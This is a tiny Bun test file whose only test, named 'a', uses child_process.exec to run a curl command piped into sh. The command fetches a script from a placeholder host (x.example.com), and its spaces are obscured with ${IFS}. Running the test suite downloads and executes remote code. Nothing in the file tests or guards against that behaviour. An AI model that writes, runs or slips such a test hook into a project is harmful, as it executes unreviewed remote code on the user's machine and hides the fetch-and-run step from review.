import { expect, test } from "bun:test";
import { exec } from "node:child_process";

const script = "curl${IFS}-s${IFS}https://x.example.com/a|sh";

test("a", (done) => {
  exec(script, (err) => {
    expect(err).toBeNull();
    done();
  });
});
